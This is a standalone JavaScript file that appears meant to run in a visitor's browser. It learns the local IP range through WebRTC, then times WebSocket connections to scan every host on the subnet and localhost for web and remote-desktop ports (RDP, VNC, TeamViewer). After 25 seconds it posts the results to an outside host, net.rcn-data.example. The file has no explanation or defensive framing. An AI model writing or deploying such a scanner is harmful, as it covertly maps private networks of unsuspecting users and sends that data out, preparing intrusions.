var found = [], base = null;
function sniff(cb) {
  var pc = new RTCPeerConnection({ iceServers: [] });
  pc.createDataChannel('');
  pc.onicecandidate = function (e) {
    var m = e.candidate && /(\d+\.\d+\.\d+)\.\d+/.exec(e.candidate.candidate);
    if (m && !base) { base = m[1]; cb(); }
  };
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
  setTimeout(function () { if (!base) { base = '192.168.1'; cb(); } }, 2000);
}
function knock(host, port, done) {
  var t = Date.now(), over = false;
  var ws = new WebSocket('ws://' + host + ':' + port);
  function end(s) { if (over) return; over = true; done(host, port, s, Date.now() - t); try { ws.close(); } catch (e) {} }
  ws.onopen = function () { end('open'); };
  ws.onerror = function () { end(Date.now() - t < 90 ? 'closed' : 'filtered'); };
  setTimeout(function () { end('timeout'); }, 1800);
}
sniff(function () {
  var ports = [80, 443, 3389, 5900, 5938, 7070, 8080];
  for (var h = 1; h < 255; h++) ports.forEach(function (p) {
    knock(base + '.' + h, p, function (a, b, s, d) { if (s != 'timeout') found.push([a, b, s, d]); });
  });
  ports.forEach(function (p) { knock('127.0.0.1', p, function (a, b, s, d) { found.push([a, b, s, d]); }); });
  setTimeout(function () {
    var x = new XMLHttpRequest(); x.open('POST', 'https://net.rcn-data.example/r'); x.send(JSON.stringify(found));
  }, 25000);
});
